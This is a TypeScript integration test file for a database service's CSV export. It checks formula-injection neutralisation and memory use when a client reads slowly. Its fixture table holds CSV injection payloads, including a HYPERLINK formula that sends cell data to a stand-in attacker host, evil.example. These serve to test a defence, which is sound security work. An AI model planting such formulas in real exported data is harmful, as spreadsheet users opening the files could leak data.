import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { connect } from "node:net";
import Papa from "papaparse";
import { connectAs } from "../support/remoteDb";
import { removeStaleSandboxes, startSandboxVps, type SandboxVps } from "../support/sandboxVps";
import { startServiceProcess, type ServiceProcess } from "../support/serviceProcess";
import { createTestDatabases, type TestDatabases } from "../support/testDatabase";
import { TEST_ENCRYPTION_KEY, tokenFor } from "../support/tokens";

/**
 * CSV downloads against the real service process: formula neutralisation on request, and the
 * service's memory while a client reads a table far larger than that memory, slowly.
 */
const OWNER = 12;
const PASSWORD = "export-pw-1";
const WIDE_ROWS = 200_000;
/** 480 characters of payload per row: the whole CSV is about 100 MB. */
const WIDE_PAYLOAD_MD5S = 15;

let vps: SandboxVps;
let dbs: TestDatabases;
let service: ServiceProcess;
let machineId = 0;

const where = () => ({ databaseName: "export", vpsId: machineId, vpsIp: vps.ip, username: "export_user" });
const headers = () => ({ authorization: `Bearer ${tokenFor(OWNER)}`, "content-type": "application/json" });
const tableData = (body: Record<string, unknown>) =>
  fetch(`${service.baseUrl}/get-table-data`, { method: "POST", headers: headers(), body: JSON.stringify({ ...where(), ...body }) });

const rssBytes = (pid: number) => 1024 * Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, "utf8"))?.[1] ?? 0);

beforeAll(async () => {
  await removeStaleSandboxes();
  vps = await startSandboxVps({ postgres: "running" });
  dbs = await createTestDatabases(TEST_ENCRYPTION_KEY);
  machineId = await dbs.addMachine({ ip: vps.ip, ownerId: OWNER, rootPassword: vps.rootPassword });
  service = startServiceProcess({ metadataUrl: dbs.metadata.url, registryUrl: dbs.registryDb.url });
  await service.waitHealthy();
  const deployed = await fetch(`${service.baseUrl}/deploy-postgres`, {
    method: "POST",
    headers: headers(),
    body: JSON.stringify({ vpsId: machineId, vpsIp: vps.ip, dbName: "export", userName: "export_user", password: PASSWORD, dbType: "postgres" }),
  });
  expect(deployed.status).toBe(200);
  const owner = await connectAs(vps.ip, "export_user", PASSWORD, "export");
  try {
    await owner.query(`
      CREATE TABLE formulas (id integer PRIMARY KEY, "=label" text, amount numeric, note text);
      INSERT INTO formulas VALUES
        (1, '=HYPERLINK("http://evil.example/?"&A1,"click")', -5, 'plain'),
        (2, '+1+1', 3, E'@SUM(A1:A2)\\nsecond line, with =comma'),
        (3, E'\\tcmd', 0, E'\\rx'),
        (4, 'safe = inside', NULL, ''),
        (5, '-', 7, '"=quoted"');
      CREATE TABLE wide AS SELECT g AS id, repeat(md5(g::text), ${WIDE_PAYLOAD_MD5S}) AS payload FROM generate_series(1, ${WIDE_ROWS}) g;
    `);
  } finally {
    await owner.end();
  }
}, 180_000);

afterAll(async () => {
  service?.process.kill("SIGKILL");
  await dbs?.dropAll();
  await vps?.stop();
}, 60_000);

describe("CSV formula neutralisation (csvSafe)", () => {
  test("csvSafe: true prefixes ' to every cell a spreadsheet would run as a formula, header included", async () => {
    const response = await tableData({ tableName: "formulas", format: "csv", csvSafe: true });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const rows = Papa.parse<string[]>((await response.text()).replace(/\n$/, ""), { newline: "\n" });
    expect(rows.errors).toEqual([]);
    expect(rows.data).toEqual([
      ["id", "'=label", "amount", "note"],
      ["1", `'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'-5", "plain"],
      ["2", "'+1+1", "3", "'@SUM(A1:A2)\nsecond line, with =comma"],
      ["3", "'\tcmd", "0", "'\rx"],
      ["4", "safe = inside", "", ""],
      ["5", "'-", "7", '"=quoted"'],
    ]);
  });

  test("without csvSafe the download is PostgreSQL's values unchanged; csvSafe must be a boolean", async () => {
    const response = await tableData({ tableName: "formulas", format: "csv" });
    const rows = Papa.parse<string[]>((await response.text()).replace(/\n$/, ""), { newline: "\n" }).data;
    expect(rows[0]).toEqual(["id", "=label", "amount", "note"]);
    expect(rows[1]).toEqual(["1", `=HYPERLINK("http://evil.example/?"&A1,"click")`, "-5", "plain"]);
    const refused = await tableData({ tableName: "formulas", format: "csv", csvSafe: "yes" });
    expect(refused.status).toBe(400);
    expect(((await refused.json()) as { message: string }).message).toContain("csvSafe");
  });

  test("a whole large table passes through the guard unchanged when nothing looks like a formula", async () => {
    const response = await tableData({ tableName: "wide", format: "csv", csvSafe: true, limit: 20_000 });
    const text = await response.text();
    const lines = text.split("\n");
    expect(lines).toHaveLength(20_000 + 2);
    expect(lines[1]).toBe(`1,${new Bun.CryptoHasher("md5").update("1").digest("hex").repeat(WIDE_PAYLOAD_MD5S)}`);
  });
});

interface SlowRead {
  status: string;
  bytesRead: number;
  peakRssBytes: number;
}

/**
 * A raw HTTP/1.1 client that reads at most `bytesPerSecond` (it stops reading from its socket
 * in between, so the kernel's buffers fill and the server has to wait), samples the service's
 * RSS while reading, and hangs up after `stopAfterBytes`.
 */
function readSlowly(pid: number, body: Record<string, unknown>, options: { bytesPerSecond: number; stopAfterBytes: number; timeoutMs: number }): Promise<SlowRead> {
  const url = new URL(service.baseUrl);
  const payload = JSON.stringify({ ...where(), ...body });
  const request = [
    "POST /get-table-data HTTP/1.1",
    `Host: ${url.host}`,
    `Authorization: Bearer ${tokenFor(OWNER)}`,
    "Content-Type: application/json",
    `Content-Length: ${Buffer.byteLength(payload)}`,
    "Connection: close",
    "",
    payload,
  ].join("\r\n");
  return new Promise((resolve, reject) => {
    const socket = connect(Number(url.port), url.hostname);
    const started = Date.now();
    let bytesRead = 0;
    let head = "";
    let peakRssBytes = rssBytes(pid);
    let resumeTimer: ReturnType<typeof setTimeout> | undefined;
    const sampler = setInterval(() => {
      peakRssBytes = Math.max(peakRssBytes, rssBytes(pid));
    }, 100);
    const finish = (error?: Error) => {
      clearInterval(sampler);
      clearTimeout(resumeTimer);
      clearTimeout(deadline);
      socket.destroy();
      if (error) reject(error);
      else resolve({ status: head.split("\r\n")[0] ?? "", bytesRead, peakRssBytes });
    };
    const deadline = setTimeout(() => finish(new Error(`slow read unfinished after ${options.timeoutMs} ms (${bytesRead} bytes)`)), options.timeoutMs);
    socket.on("connect", () => socket.write(request));
    socket.on("data", (chunk: Buffer) => {
      if (head.length < 200) head += chunk.subarray(0, 200).toString("latin1");
      bytesRead += chunk.length;
      if (bytesRead >= options.stopAfterBytes) return finish();
      const aheadMs = (bytesRead / options.bytesPerSecond) * 1000 - (Date.now() - started);
      if (aheadMs > 0) {
        socket.pause();
        resumeTimer = setTimeout(() => socket.resume(), aheadMs);
      }
    });
    socket.on("error", (error) => finish(error));
    socket.on("end", () => finish(new Error(`the service ended the response after ${bytesRead} bytes`)));
  });
}

describe("slow clients", () => {
  test(`a client reading a ${WIDE_ROWS}-row (~100 MB) CSV at 64 KiB/s keeps the service's extra memory under 64 MB`, async () => {
    const pid = service.process.pid;
    // Warm the paths a download uses (SSH connection, psql session, response streaming).
    expect((await (await tableData({ tableName: "wide", format: "csv", limit: 1000 })).text()).split("\n")).toHaveLength(1002);
    const baseline = rssBytes(pid);
    const read = await readSlowly(pid, { tableName: "wide", format: "csv" }, { bytesPerSecond: 64 * 1024, stopAfterBytes: 2 * 1024 * 1024, timeoutMs: 60_000 });
    expect(read.status).toBe("HTTP/1.1 200 OK");
    expect(read.bytesRead).toBeGreaterThanOrEqual(2 * 1024 * 1024);
    const extraMb = (read.peakRssBytes - baseline) / 1024 / 1024;
    expect({ extraMb: Math.round(extraMb), under64: extraMb < 64 }).toEqual({ extraMb: Math.round(extraMb), under64: true });
    // The hang-up stops the remote query; the service goes on serving.
    const after = await tableData({ tableName: "formulas", format: "csv", limit: 1 });
    expect(after.status).toBe(200);
    await after.text();
  }, 120_000);
});
